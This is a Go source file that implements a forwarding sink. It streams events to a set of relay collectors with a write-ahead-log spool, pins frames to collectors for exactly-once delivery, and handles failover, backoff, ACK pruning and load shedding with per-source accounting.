// ingested. Ownership is keyed by address, not endpoint index, so it
// survives both a SetEndpoints re-rank and — journaled in the spool WAL
// — a farm restart. A frame whose owner is absent from the current
// endpoint set is an orphan: it is never retransmitted elsewhere unless
// Options.OrphanRelease fires.
type spoolFrame struct {
	seq      uint64
	events   int
	body     []byte
	attempts int
	owner    string    // endpoint address the frame is pinned to; "" = unowned
	pinnedAt time.Time // when owner was set; orphan-release clock
	sentAt   time.Time // last successful write; zero until first send
}

// endpoint is the per-collector dial state and accounting, in
// rendezvous rank order for this farm.
type endpoint struct {
	addr    string
	backoff time.Duration // next failure sleep; MinBackoff after an acked connection
	due     time.Time     // earliest next dial; zero = immediately

	dials       uint64
	dialErrors  uint64
	framesAcked uint64
	eventsAcked uint64
}

// ForwardSink streams events to a tier of relay collectors. It
// implements core.Sink, core.BatchSink and core.Flusher, so it registers
// on the event bus like any local sink; batches arrive on bus worker
// goroutines, are encoded into frames and spooled, and a background pump
// goroutine owns the TCP connection: rank the endpoints by rendezvous
// hash, dial the best one due, HELLO, write frames with a deadline, read
// cumulative ACKs, and on failure fail over to the next-ranked collector
// while the dead one backs off — retransmitting everything unacked,
// except that frames already written to one collector stay pinned to it
// (see spoolFrame.owner).
//
// When the spool hits its frame/byte bound (collector down, or slower
// than the farm), new events are shed with per-source accounting — the
// same degrade-don't-stall contract as the bus's Adaptive policy — so
// Stats always satisfies: events enqueued = acked + in flight (spool +
// pending) and events offered = enqueued + shed.
type ForwardSink struct {
	opts ForwardOptions
	eps  []*endpoint // rendezvous rank order for opts.Farm

	mu   sync.Mutex
	cond sync.Cond // new data, acks, disconnects, stop

	pending []core.Event  // not yet framed
	spool   []*spoolFrame // framed, FIFO by seq
	scanIdx int           // next spool index the current connection considers
	spoolEv int
	spoolB  int64
	nextSeq uint64
	epoch   uint64 // per-process session nonce, sent in HELLO

	conn       net.Conn
	connected  bool
	connAcked  bool      // current connection has acked at least one frame
	cur        *endpoint // endpoint being served; nil when disconnected
	lastServed *endpoint // endpoint of the previous connection; nil before any
	handoff    net.Conn
	handoffEp  *endpoint
	stopped    bool
	stopCh     chan struct{}
	wg         sync.WaitGroup

	firstErr error

	// Counters (guarded by mu).
	enqueued    uint64
	frames      uint64
	framesSent  uint64
	framesAcked uint64
	eventsAcked uint64
	wireBytes   uint64
	rawBytes    uint64
	dials       uint64
	dialErrors  uint64
	reconnects  uint64
	failovers   uint64
	writeErrors uint64
	shed        uint64
	shedUnattr  uint64
	shedSrc     map[netip.Addr]uint64
	droppedFr   uint64            // frames dropped at the retry cap
	lastCompact uint64            // highest seq successfully compacted
	reloads     uint64            // SetEndpoints calls that changed the set
	orphansRel  uint64            // orphaned pins released (OrphanRelease)
	ackRTT      core.DurationHist // write-to-ack round trips
}

// NewForwardSink validates opts and starts the connection pump. The
// sink dials lazily: no connection is attempted until there is an event
// to ship.
func NewForwardSink(opts ForwardOptions) (*ForwardSink, error) {
	addrs := cleanAddrs(opts.Addrs)
	if len(addrs) == 0 {
		return nil, fmt.Errorf("relay: forward: no collector addresses")
	}
	if opts.Token == "" {
		return nil, fmt.Errorf("relay: forward: empty token")
	}
	if len(opts.Token) > MaxName {
		return nil, fmt.Errorf("relay: forward: token is %d bytes, limit %d", len(opts.Token), MaxName)
	}
	if len(opts.Farm) > MaxName {
		return nil, fmt.Errorf("relay: forward: farm name is %d bytes, limit %d", len(opts.Farm), MaxName)
	}
	f := &ForwardSink{
		opts:    opts.withDefaults(),
		stopCh:  make(chan struct{}),
		shedSrc: make(map[netip.Addr]uint64),
		epoch:   newEpoch(),
	}
	for _, a := range RankEndpoints(f.opts.Farm, addrs) {
		f.eps = append(f.eps, &endpoint{addr: a, backoff: f.opts.MinBackoff})
	}
	f.cond.L = &f.mu
	if err := f.loadSpoolWAL(); err != nil {
		return nil, err
	}
	f.wg.Add(1)
	go f.pump()
	if f.opts.OrphanRelease > 0 {
		f.wg.Add(1)
		go f.orphanLoop()
	}
	return f, nil
}

// orphanLoop periodically applies the opt-in orphan-release policy so
// an expired orphan is freed even when no traffic makes the write loop
// rescan the spool — without it, a connected-but-idle sink would hold
// a releasable frame until the next reconnect. Runs only when
// Options.OrphanRelease is set.
func (f *ForwardSink) orphanLoop() {
	defer f.wg.Done()
	period := f.opts.OrphanRelease / 2
	if period < 10*time.Millisecond {
		period = 10 * time.Millisecond
	}
	if period > time.Second {
		period = time.Second
	}
	t := time.NewTicker(period)
	defer t.Stop()
	for {
		select {
		case <-f.stopCh:
			return
		case <-t.C:
		}
		f.mu.Lock()
		released := false
		for _, fr := range f.spool {
			if fr.owner != "" && f.releaseOrphanLocked(fr) {
				released = true
			}
		}
		if released {
			f.scanIdx = 0 // the serving connection rescans the freed frames
			f.cond.Broadcast()
		}
		f.mu.Unlock()
	}
}

// cleanAddrs trims, drops empties and dedupes an address list, keeping
// first-occurrence order. The strict duplicate check lives at the flag
// parser (cliflags); here a duplicate is collapsed so programmatic
// callers cannot corrupt per-endpoint state.
func cleanAddrs(in []string) []string {
	var out []string
	for _, a := range in {
		a = strings.TrimSpace(a)
		if a == "" {
			continue
		}
		dup := false
		for _, seen := range out {
			if seen == a {
				dup = true
				break
			}
		}
		if !dup {
			out = append(out, a)
		}
	}
	return out
}

// ForwardTo builds a sink that forwards to a single collector.
//
// Deprecated: set ForwardOptions.Addrs and call NewForwardSink. Kept
// for one release for callers of the pre-tier single-address API.
func ForwardTo(addr string, opts ForwardOptions) (*ForwardSink, error) {
	opts.Addrs = []string{addr}
	return NewForwardSink(opts)
}

// loadSpoolWAL adopts the durable spool: the forwarder's sequence space
// continues the log's, and every journaled-but-unacked frame (sequence
// past the persisted ack mark) is re-encoded into the spool so the next
// connection retransmits it. Journaled ownership is restored by
// endpoint address — a frame pinned to collector A before the crash is
// retransmitted only to A, even if A is currently absent from Addrs
// (the frame waits as an orphan; see spoolFrame.owner) — which is what
// keeps the tier-wide merge exactly-once across a farm restart. Runs
// before the pump starts, so no lock is needed.
func (f *ForwardSink) loadSpoolWAL() error {
	w := f.opts.SpoolWAL
	if w == nil {
		return nil
	}
	f.nextSeq = w.LastSeq()
	f.lastCompact = w.Mark()
	owners := w.Owners()
	now := time.Now()
	owned := 0
	err := w.Replay(w.Mark()+1, func(seq uint64, _ []byte, events []core.Event) error {
		body, rawLen, err := EncodeBatch(seq, events, f.opts.CompressionLevel)
		if err != nil {
			return fmt.Errorf("relay: re-encode spooled frame seq %d: %w", seq, err)
		}
		fr := &spoolFrame{seq: seq, events: len(events), body: body}
		if addr := owners[seq]; addr != "" {
			fr.owner = addr
			fr.pinnedAt = now
			owned++
		}
		f.spool = append(f.spool, fr)
		f.spoolEv += fr.events
		f.spoolB += int64(len(body)) + 4
		f.enqueued += uint64(fr.events)
		f.frames++
		f.wireBytes += uint64(len(body)) + 4
		f.rawBytes += uint64(rawLen)
		return nil
	})
	if err != nil {
		return fmt.Errorf("relay: reload spool: %w", err)
	}
	if n := len(f.spool); n > 0 {
		orphans := 0
		for _, fr := range f.spool {
			if fr.owner != "" && f.endpointByAddrLocked(fr.owner) == nil {
				orphans++
			}
		}
		f.logf("relay: reloaded %d unacked frames (%d events, seq %d..%d, %d pinned, %d orphaned) from spool WAL",
			n, f.spoolEv, f.spool[0].seq, f.spool[n-1].seq, owned, orphans)
	}
	return nil
}

// newEpoch draws the per-process session nonce the collector uses to
// tell a reconnect from a restart. Never zero, so it is distinguishable
// from a collector farmState that has seen no HELLO at all.
func newEpoch() uint64 {
	var b [8]byte
	if _, err := crand.Read(b[:]); err != nil {
		// crypto/rand failing is effectively fatal elsewhere; fall back
		// to the math/rand source rather than refusing to forward.
		return uint64(rand.Int63()) | 1
	}
	e := binary.LittleEndian.Uint64(b[:])
	if e == 0 {
		e = 1
	}
	return e
}

// durable reports whether the spool is WAL-backed — advertised in the
// HELLO so the collector dedups on sequence across session epochs.
func (f *ForwardSink) durable() bool { return f.opts.SpoolWAL != nil }

// Record implements core.Sink.
func (f *ForwardSink) Record(e core.Event) {
	_ = f.RecordBatch([]core.Event{e})
}

// RecordBatch implements core.BatchSink. It never returns an error:
// overload is expressed as accounted shedding (or, with Options.Block,
// as backpressure), not as a failed delivery the bus would re-count.
func (f *ForwardSink) RecordBatch(events []core.Event) error {
	f.mu.Lock()
	for _, e := range events {
		if f.opts.Block {
			for f.overLimitLocked() && !f.stopped {
				f.cond.Wait()
			}
		}
		if f.stopped || f.overLimitLocked() {
			f.shedLocked(e)
			continue
		}
		f.pending = append(f.pending, e)
		f.enqueued++
		if len(f.pending) >= f.opts.FrameEvents {
			f.cutFrameLocked()
		}
	}
	f.cond.Broadcast()
	f.mu.Unlock()
	return nil
}

func (f *ForwardSink) overLimitLocked() bool {
	return len(f.spool) >= f.opts.SpoolFrames || f.spoolB >= f.opts.SpoolBytes
}

// shedLocked counts one shed event against its source; once the
// attribution table is full, against the unattributed overflow bucket,
// so shed totals stay exact.
func (f *ForwardSink) shedLocked(e core.Event) {
	f.shed++
	a := e.Src.Addr()
	if _, ok := f.shedSrc[a]; ok || len(f.shedSrc) < f.opts.MaxShedSources {
		f.shedSrc[a]++
	} else {
		f.shedUnattr++
	}
}

// cutFrameLocked encodes pending events into spool frames, validating
// every cut frame against the wire limits the collector will enforce at
// decode (Options.MaxFrame/MaxRaw). A batch that encodes past either
// bound is split in half until it fits — spooling it would poison the
// spool head: the collector rejects the frame and drops the connection,
// and the retransmit loop would replay it forever. A single event that
// cannot fit alone is shed with attribution instead.
func (f *ForwardSink) cutFrameLocked() {
	for len(f.pending) > 0 {
		n := len(f.pending)
		var body []byte
		var rawLen int
		for body == nil {
			b, rl, err := EncodeBatch(f.nextSeq+1, f.pending[:n], f.opts.CompressionLevel)
			switch {
			case err != nil:
				// Encoding into memory cannot fail outside of a
				// programming error; record it and shed the batch
				// rather than wedging.
				f.noteErrLocked(err)
				f.shedPendingLocked(n)
			case len(b)+4 <= f.opts.MaxFrame && rl <= f.opts.MaxRaw:
				body, rawLen = b, rl
			case n > 1:
				n /= 2
				continue
			default:
				f.noteErrLocked(fmt.Errorf("relay: event exceeds frame limits (%d raw bytes, limit %d)", rl, f.opts.MaxRaw))
				f.shedPendingLocked(1)
			}
			break
		}
		if body == nil {
			continue
		}
		if w := f.opts.SpoolWAL; w != nil {
			// Journal before spooling: a frame the WAL did not accept must
			// not enter the sequence space (its seq would be reused after a
			// restart and the collector would dedup-drop a different
			// batch). A failing disk degrades to accounted shedding, the
			// same contract as a full spool.
			seq, err := w.Append(f.pending[:n], nil)
			if err != nil {
				f.noteErrLocked(err)
				f.logf("relay: spool WAL append: %v (shedding %d events)", err, n)
				f.shedPendingLocked(n)
				continue
			}
			if seq != f.nextSeq+1 {
				// Foreign writer on the log (ownership contract broken).
				// Resync to the WAL's sequence space — it is authoritative —
				// and re-encode under the right sequence number.
				f.noteErrLocked(fmt.Errorf("relay: spool WAL sequence skew: got %d, want %d", seq, f.nextSeq+1))
				f.nextSeq = seq - 1
				if body, rawLen, err = EncodeBatch(seq, f.pending[:n], f.opts.CompressionLevel); err != nil {
					f.noteErrLocked(err)
					f.shedPendingLocked(n)
					continue
				}
			}
		}
		f.nextSeq++
		fr := &spoolFrame{seq: f.nextSeq, events: n, body: body}
		f.spool = append(f.spool, fr)
		f.spoolEv += fr.events
		f.spoolB += int64(len(body)) + 4
		f.frames++
		f.wireBytes += uint64(len(body)) + 4
		f.rawBytes += uint64(rawLen)
		f.consumePendingLocked(n)
	}
}

// shedPendingLocked sheds the first n pending events with attribution,
// unwinding their enqueued count.
func (f *ForwardSink) shedPendingLocked(n int) {
	for _, e := range f.pending[:n] {
		f.enqueued--
		f.shedLocked(e)
	}
	f.consumePendingLocked(n)
}

// consumePendingLocked removes the first n pending events.
func (f *ForwardSink) consumePendingLocked(n int) {
	f.pending = f.pending[:copy(f.pending, f.pending[n:])]
}

func (f *ForwardSink) noteErrLocked(err error) {
	if f.firstErr == nil {
		f.firstErr = err
	}
}

func (f *ForwardSink) logf(format string, args ...any) {
	if f.opts.Logf != nil {
		f.opts.Logf(format, args...)
	}
}

// endpointByAddrLocked resolves an endpoint address against the current
// set; nil when absent (the address owns orphaned frames, or never
// existed).
func (f *ForwardSink) endpointByAddrLocked(addr string) *endpoint {
	for _, ep := range f.eps {
		if ep.addr == addr {
			return ep
		}
	}
	return nil
}

// preferredLocked is the endpoint the sink would rather be connected
// to: the owner of the oldest pinned frame whose owner is present (FIFO
// progress on spooled data — those frames can drain nowhere else),
// otherwise the highest-ranked collector. Orphaned frames — owners
// absent from the current set — cannot steer the dial: there is nothing
// to dial.
func (f *ForwardSink) preferredLocked() *endpoint {
	for _, fr := range f.spool {
		if fr.owner == "" {
			continue
		}
		if ep := f.endpointByAddrLocked(fr.owner); ep != nil {
			return ep
		}
	}
	return f.eps[0]
}

// pickEndpointLocked returns the endpoint to dial now — the preferred
// one if its backoff has expired, else the best-ranked endpoint that is
// due — or nil and the wait until the earliest endpoint comes due.
func (f *ForwardSink) pickEndpointLocked(now time.Time) (*endpoint, time.Duration) {
	pref := f.preferredLocked()
	order := make([]*endpoint, 0, len(f.eps))
	order = append(order, pref)
	for _, ep := range f.eps {
		if ep != pref {
			order = append(order, ep)
		}
	}
	var earliest time.Time
	for _, ep := range order {
		if !ep.due.After(now) {
			return ep, 0
		}
		if earliest.IsZero() || ep.due.Before(earliest) {
			earliest = ep.due
		}
	}
	return nil, earliest.Sub(now)
}

// backoffLocked schedules the endpoint's next allowed dial and, when
// the endpoint failed (dial error, or a connection that died without a
// single ack), doubles its backoff up to MaxBackoff. The double on
// ackless connections is the regression-tested half of the contract: a
// collector that accepts TCP but never acks must not be hammered at the
// floor interval.
func (f *ForwardSink) backoffLocked(ep *endpoint, failed bool) {
	ep.due = time.Now().Add(jitter(ep.backoff))
	if failed {
		ep.backoff *= 2
		if ep.backoff > f.opts.MaxBackoff {
			ep.backoff = f.opts.MaxBackoff
		}
	}
}

// jitter spreads a backoff over [d/2, d] so a farm fleet does not
// reconnect in lockstep.
func jitter(d time.Duration) time.Duration {
	if d <= 0 {
		return 0
	}
	return d/2 + time.Duration(rand.Int63n(int64(d/2)+1))
}

// pump owns the connection lifecycle: wait for work, pick the best due
// endpoint (rendezvous rank, pinned-frame owner first), dial, serve the
// connection until it breaks, repeat — failing over to the next-ranked
// collector while a dead one backs off.
func (f *ForwardSink) pump() {
	defer f.wg.Done()
	for {
		f.mu.Lock()
		for !f.stopped && f.handoff == nil && len(f.spool) == 0 && len(f.pending) == 0 {
			f.cond.Wait()
		}
		if f.stopped {
			f.mu.Unlock()
			return
		}
		if f.handoff != nil {
			// A failback probe already completed the HELLO on a better
			// endpoint; adopt its connection instead of dialing.
			conn, ep := f.handoff, f.handoffEp
			f.handoff = nil
			f.mu.Unlock()
			f.serveConn(conn, ep)
			continue
		}
		ep, wait := f.pickEndpointLocked(time.Now())
		f.mu.Unlock()
		if ep == nil {
			if !f.sleepUntil(wait) {
				return
			}
			continue
		}
		conn, err := f.dialEndpoint(ep)
		if err != nil {
			// Transient by design: the spool holds the events and the
			// next attempt retransmits (possibly to the next-ranked
			// collector), so a failed dial is a counter and a log line,
			// not a sink error.
			f.noteDialError(ep, err)
			continue
		}
		f.serveConn(conn, ep)
	}
}

func (f *ForwardSink) noteDialError(ep *endpoint, err error) {
	f.mu.Lock()
	f.dialErrors++
	ep.dialErrors++
	f.backoffLocked(ep, true)
	f.mu.Unlock()
	f.logf("%v (backing off)", err)
}

// dialEndpoint connects to one collector and completes the HELLO
// exchange.
func (f *ForwardSink) dialEndpoint(ep *endpoint) (net.Conn, error) {
	addr := ep.addr
	conn, err := net.DialTimeout("tcp", addr, f.opts.DialTimeout)
	if err != nil {
		return nil, fmt.Errorf("relay: dial %s: %w", addr, err)
	}
	_ = conn.SetWriteDeadline(time.Now().Add(f.opts.WriteTimeout))
	if err := wire.WriteFrame(conn, encodeHello(f.opts.Token, f.opts.Farm, f.epoch, f.durable())); err != nil {
		conn.Close()
		return nil, fmt.Errorf("relay: hello to %s: %w", addr, err)
	}
	_ = conn.SetWriteDeadline(time.Time{})
	f.mu.Lock()
	f.dials++
	ep.dials++
	if f.dials > 1 {
		f.reconnects++
	}
	f.mu.Unlock()
	return conn, nil
}

// sleepUntil sleeps d (at least a millisecond) or until Close.
func (f *ForwardSink) sleepUntil(d time.Duration) bool {
	if d < time.Millisecond {
		d = time.Millisecond
	}
	select {
	case <-time.After(d):
		return true
	case <-f.stopCh:
		return false
	}
}

// serveConn runs one connection: an ack-reader goroutine prunes the
// spool while the write loop streams frames, and (with multiple
// endpoints) a failback prober looks for a better collector. Any side
// failing closes the connection and returns control to the pump, which
// retransmits every still-spooled frame owned here or unowned on the
// next connection.
func (f *ForwardSink) serveConn(conn net.Conn, ep *endpoint) {
	f.mu.Lock()
	f.conn = conn
	f.connected = true
	f.connAcked = false
	f.cur = ep
	f.scanIdx = 0 // retransmit everything unacked that this endpoint may send
	if f.lastServed != nil && f.lastServed.addr != ep.addr {
		f.failovers++
		f.logf("relay: now forwarding to %s (was %s)", ep.addr, f.lastServed.addr)
	}
	f.lastServed = ep
	multi := len(f.eps) > 1
	f.mu.Unlock()

	probeStop := make(chan struct{})
	var probeWG sync.WaitGroup
	if multi {
		probeWG.Add(1)
		go f.failbackLoop(conn, ep, probeStop, &probeWG)
	}
	ackDone := make(chan struct{})
	go f.ackLoop(conn, ep, ackDone)
	f.writeLoop(conn, ep)
	conn.Close()
	close(probeStop)
	<-ackDone
	probeWG.Wait()

	f.mu.Lock()
	f.conn = nil
	f.connected = false
	f.cur = nil
	f.scanIdx = 0
	// Throttle the immediate redial: an acked (healthy) connection comes
	// back after ~MinBackoff, an ackless one keeps doubling — and either
	// way the pump is free to fail over to the next-ranked collector
	// right now.
	f.backoffLocked(ep, !f.connAcked)
	f.cond.Broadcast()
	f.mu.Unlock()
}

// failbackLoop periodically checks whether a better endpoint than the
// one being served is due, and if so dials it in the background. Only
// on a completed HELLO is the current connection closed and the new one
// handed to the pump — a dead preferred collector costs a probe dial,
// never the working connection.
func (f *ForwardSink) failbackLoop(conn net.Conn, ep *endpoint, stop <-chan struct{}, wg *sync.WaitGroup) {
	defer wg.Done()
	t := time.NewTicker(f.opts.FailbackInterval)
	defer t.Stop()
	for {
		select {
		case <-stop:
			return
		case <-f.stopCh:
			return
		case <-t.C:
		}
		f.mu.Lock()
		want := f.preferredLocked()
		ok := !f.stopped && f.connected && f.cur == ep && f.handoff == nil &&
			want != ep && !want.due.After(time.Now())
		f.mu.Unlock()
		if !ok {
			continue
		}
		probe, err := f.dialEndpoint(want)
		if err != nil {
			f.noteDialError(want, err)
			continue
		}
		f.mu.Lock()
		if f.stopped || !f.connected || f.cur != ep || f.handoff != nil {
			f.mu.Unlock()
			probe.Close()
			return
		}
		f.handoff = probe
		f.handoffEp = want
		f.mu.Unlock()
		f.logf("relay: failing back to %s", want.addr)
		conn.Close() // write/ack loops exit; the pump adopts the probe
		return
	}
}

// writeLoop streams spooled frames in sequence order — skipping frames
// pinned to other endpoints — and cuts pending events into a fresh
// frame whenever it catches up, so under light load every batch ships
// as soon as the previous write returns, without a flush timer. The
// first write of a frame pins it to this endpoint's address, and on a
// durable spool the pin is journaled before any byte can reach the
// collector — so no collector can ever hold a frame the journal does
// not pin to it.
func (f *ForwardSink) writeLoop(conn net.Conn, ep *endpoint) {
	first := true
	for {
		f.mu.Lock()
		var fr *spoolFrame
		for fr == nil {
			for f.scanIdx < len(f.spool) {
				cand := f.spool[f.scanIdx]
				if cand.owner != "" && cand.owner != ep.addr {
					if !f.releaseOrphanLocked(cand) {
						f.scanIdx++ // pinned elsewhere; its owner will drain it
						continue
					}
				}
				fr = cand
				break
			}
			if fr != nil {
				break
			}
			if len(f.pending) > 0 {
				f.cutFrameLocked() // may shed on encode failure; rescan
				continue
			}
			if f.stopped || !f.connected {
				f.mu.Unlock()
				return
			}
			f.cond.Wait()
		}
		if f.stopped || !f.connected {
			f.mu.Unlock()
			return
		}
		if fr.attempts >= f.opts.MaxFrameRetries {
			// Led the retransmission on MaxFrameRetries connections
			// without ever being acked: the collector is rejecting this
			// frame at decode (limits skew or corruption in transit that
			// survives TCP). Drop it so the spool drains instead of
			// replaying the same frame forever; the loss is counted,
			// never silent.
			f.removeFrameLocked(f.scanIdx)
			f.enqueued -= uint64(fr.events)
			f.shed += uint64(fr.events)
			f.shedUnattr += uint64(fr.events)
			f.droppedFr++
			f.noteErrLocked(fmt.Errorf("relay: frame seq %d (%d events) dropped after %d unacked transmissions", fr.seq, fr.events, fr.attempts))
			f.cond.Broadcast()
			f.mu.Unlock()
			f.logf("relay: dropping frame seq=%d (%d events) after %d unacked transmissions", fr.seq, fr.events, fr.attempts)
			continue
		}
		if first {
			fr.attempts++
			first = false
		}
		if fr.owner == "" {
			fr.owner = ep.addr
			fr.pinnedAt = time.Now()
			if w := f.opts.SpoolWAL; w != nil {
				// Journal the pin BEFORE the frame goes on the wire: once
				// any byte may have reached this collector, a restarted
				// farm must never offer the frame elsewhere. A journal
				// write that fails keeps the in-memory pin and degrades
				// the guarantee to this process's lifetime — noted, never
				// silent.
				if err := w.AppendOwner(fr.seq, ep.addr); err != nil {
					f.noteErrLocked(err)
					f.logf("relay: journal owner seq=%d -> %s: %v", fr.seq, ep.addr, err)
				}
			}
		}
		f.scanIdx++
		f.mu.Unlock()

		_ = conn.SetWriteDeadline(time.Now().Add(f.opts.WriteTimeout))
		if err := wire.WriteFrame(conn, fr.body); err != nil {
			// Also transient: the frame stays spooled (now pinned here)
			// and ships again after the reconnect.
			f.mu.Lock()
			f.writeErrors++
			f.mu.Unlock()
			f.logf("relay: write to %s: %v (will reconnect)", ep.addr, err)
			return
		}
		f.mu.Lock()
		f.framesSent++
		fr.sentAt = time.Now()
		f.mu.Unlock()
	}
}

// releaseOrphanLocked applies the opt-in orphan-release policy to a
// frame pinned to an endpoint absent from the current set: past
// Options.OrphanRelease the pin is dropped (and the release journaled,
// so a restart does not resurrect it) and the frame becomes eligible
// for any collector. With the policy off — the default — it reports
// false and the frame keeps waiting for its owner.
func (f *ForwardSink) releaseOrphanLocked(fr *spoolFrame) bool {
	if f.opts.OrphanRelease <= 0 {
		return false
	}
	if f.endpointByAddrLocked(fr.owner) != nil {
		return false // owner present; not an orphan
	}
	if time.Since(fr.pinnedAt) < f.opts.OrphanRelease {
		return false
	}
	f.logf("relay: releasing frame seq=%d from departed endpoint %s after %s", fr.seq, fr.owner, f.opts.OrphanRelease)
	fr.owner = ""
	f.orphansRel++
	if w := f.opts.SpoolWAL; w != nil {
		if err := w.AppendOwner(fr.seq, ""); err != nil {
			f.noteErrLocked(err)
		}
	}
	return true
}

// removeFrameLocked drops spool[i], keeping the connection's scan
// cursor pointing at the same next frame.
func (f *ForwardSink) removeFrameLocked(i int) {
	fr := f.spool[i]
	f.spool = append(f.spool[:i], f.spool[i+1:]...)
	if f.scanIdx > i {
		f.scanIdx--
	}
	f.spoolEv -= fr.events
	f.spoolB -= int64(len(fr.body)) + 4
}

// ackLoop reads cumulative ACKs and prunes the spool. An ack from an
// endpoint covers exactly the frames pinned to it — a cumulative
// sequence from one collector says nothing about frames another
// collector still owes. A read error closes the connection so the write
// loop notices.
func (f *ForwardSink) ackLoop(conn net.Conn, ep *endpoint, done chan<- struct{}) {
	defer close(done)
	for {
		body, err := wire.ReadFrame(conn, DefaultMaxFrame)
		if err != nil {
			conn.Close()
			f.mu.Lock()
			f.connected = false
			f.cond.Broadcast()
			f.mu.Unlock()
			return
		}
		seq, err := decodeAck(body)
		if err != nil {
			f.mu.Lock()
			f.noteErrLocked(err)
			f.mu.Unlock()
			conn.Close()
			continue // next read fails and exits the loop
		}
		f.mu.Lock()
		acked := false
		for i := 0; i < len(f.spool); {
			fr := f.spool[i]
			if fr.seq > seq {
				break
			}
			if fr.owner != ep.addr {
				i++ // another collector's frame; its own ack prunes it
				continue
			}
			f.removeFrameLocked(i)
			f.framesAcked++
			f.eventsAcked += uint64(fr.events)
			ep.framesAcked++
			ep.eventsAcked += uint64(fr.events)
			if !fr.sentAt.IsZero() {
				f.ackRTT.Observe(time.Since(fr.sentAt))
			}
			acked = true
		}
		if acked {
			if !f.connAcked {
				// First acked frame on this connection: the collector is
				// demonstrably processing frames, so the endpoint earns
				// its backoff reset. A successful dial alone does not —
				// see backoffLocked.
				f.connAcked = true
				ep.backoff = f.opts.MinBackoff
			}
			f.compactSpoolLocked()
		}
		f.cond.Broadcast()
		f.mu.Unlock()
	}
}

// compactSpoolLocked persists the contiguous ack floor as a spool WAL
// mark and reclaims fully-acked segments; after a restart,
// Replay(Mark()+1) reloads only what is still unacked. The floor — not
// the raw acked sequence — because with pinned frames a later sequence
// can be acked by one collector while an earlier frame still awaits
// another. A mark that fails to persist is harmless to correctness —
// the frames replay and the collector's durable dedup drops them — so
// the error is only noted; but lastCompact advances only on success, or
// one failed compaction would silence every retry at that floor and
// fully-acked segments would pile up until the process restarted.
func (f *ForwardSink) compactSpoolLocked() {
	if f.opts.SpoolWAL == nil {
		return
	}
	floor := f.nextSeq
	if len(f.spool) > 0 {
		floor = f.spool[0].seq - 1
	}
	if floor > f.lastCompact {
		if _, err := f.opts.SpoolWAL.Compact(floor); err != nil {
			f.noteErrLocked(err)
		} else {
			f.lastCompact = floor
		}
	}
}

// SetEndpoints re-ranks a live forwarder onto a changed collector tier
// without a restart: the new address set is rendezvous-ranked for this
// farm (RankEndpoints), per-endpoint state — dial counters, ack counts,
// backoff — is carried over for every surviving address (so the
// decoydb_relay_endpoint_* metrics survive the swap), and fresh state is
// built for new ones. Frames pinned to a removed address become orphans:
// they are never retransmitted to a different collector (unless
// Options.OrphanRelease fires) and drain when the address is added back.
// If the set actually changed while a connection is up, the connection
// is closed so the pump immediately re-dials the new preferred endpoint
// — a deliberate kick that doubles as the failback probe for tiers that
// grew from one collector (no prober runs on single-endpoint
// connections). An unchanged set is a no-op. Safe to call concurrently
// with recording and delivery; returns an error on an empty set or a
// closed sink.
func (f *ForwardSink) SetEndpoints(addrs []string) error {
	cleaned := cleanAddrs(addrs)
	if len(cleaned) == 0 {
		return fmt.Errorf("relay: forward: no collector addresses")
	}
	f.mu.Lock()
	if f.stopped {
		f.mu.Unlock()
		return fmt.Errorf("relay: forward: sink closed")
	}
	same := len(cleaned) == len(f.eps)
	if same {
		for _, a := range cleaned {
			if f.endpointByAddrLocked(a) == nil {
				same = false
				break
			}
		}
	}
	if same {
		f.mu.Unlock()
		return nil
	}
	old := make(map[string]*endpoint, len(f.eps))
	for _, ep := range f.eps {
		old[ep.addr] = ep
	}
	f.eps = f.eps[:0:0]
	for _, a := range RankEndpoints(f.opts.Farm, cleaned) {
		if ep, ok := old[a]; ok {
			f.eps = append(f.eps, ep)
		} else {
			f.eps = append(f.eps, &endpoint{addr: a, backoff: f.opts.MinBackoff})
		}
	}
	f.reloads++
	conn, handoff := f.conn, f.handoff
	f.handoff = nil
	orphans := 0
	for _, fr := range f.spool {
		if fr.owner != "" && f.endpointByAddrLocked(fr.owner) == nil {
			orphans++
		}
	}
	pref := f.preferredLocked()
	f.cond.Broadcast()
	f.mu.Unlock()
	// Close outside the lock: the write/ack loops take f.mu on their way
	// out. The pump then re-ranks from scratch — preferred endpoint
	// first — exactly as after any disconnect.
	if conn != nil {
		conn.Close()
	}
	if handoff != nil {
		handoff.Close()
	}
	f.logf("relay: endpoints reloaded: %v (preferred %s, %d orphaned frames)", cleaned, pref.addr, orphans)
	return nil
}

// Flush implements core.Flusher: it waits — up to Options.FlushTimeout —
// for every enqueued event to be acked by the collector tier. With every
// collector unreachable the timeout expires and the remaining events
// stay spooled (visible in Stats), which is exactly what the shutdown
// accounting wants: nothing silently discarded.
func (f *ForwardSink) Flush() {
	deadline := time.Now().Add(f.opts.FlushTimeout)
	for {
		f.mu.Lock()
		drained := len(f.spool) == 0 && len(f.pending) == 0
		stopped := f.stopped
		f.cond.Broadcast() // nudge the pump in case it waits on work
		f.mu.Unlock()
		if drained || stopped || !time.Now().Before(deadline) {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// Close stops the pump and closes the connection. Unacked frames remain
// in the spool for Stats accounting; call Flush first to drain them.
// Close returns the first non-recoverable error observed (nil if none);
// transient dial and write failures are healed by retransmission and
// surface only as Stats counters.
func (f *ForwardSink) Close() error {
	f.mu.Lock()
	if f.stopped {
		err := f.firstErr
		f.mu.Unlock()
		return err
	}
	if f.durable() {
		// Journal the unframed tail: pending events below the frame
		// cutoff would otherwise exist only in memory, and the restart
		// that replays the spool WAL would silently lose them.
		f.cutFrameLocked()
	}
	f.stopped = true
	conn := f.conn
	handoff := f.handoff
	f.handoff = nil
	close(f.stopCh)
	f.cond.Broadcast()
	f.mu.Unlock()
	if conn != nil {
		conn.Close()
	}
	if handoff != nil {
		handoff.Close()
	}
	f.wg.Wait()
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.firstErr
}

// Err returns the first non-recoverable error observed so far.
func (f *ForwardSink) Err() error {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.firstErr
}

// SourceShed is one entry of the heaviest-shedders list, mirroring the
// bus's per-source shed surface.
type SourceShed struct {
	Addr netip.Addr
	Shed uint64
}

// EndpointStats is the per-collector slice of Stats, in rendezvous rank
// order for this farm (Rank 0 is the collector the farm prefers).
type EndpointStats struct {
	Addr    string
	Rank    int
	Current bool // the connection being served, if any

	Dials       uint64
	DialErrors  uint64
	FramesAcked uint64
	EventsAcked uint64

	// PinnedFrames counts spooled frames pinned to this endpoint —
	// frames it may have ingested without the ack arriving, which only
	// it is allowed to see again.
	PinnedFrames int
	// Backoff is the endpoint's next failure sleep; MinBackoff means
	// healthy.
	Backoff time.Duration
}

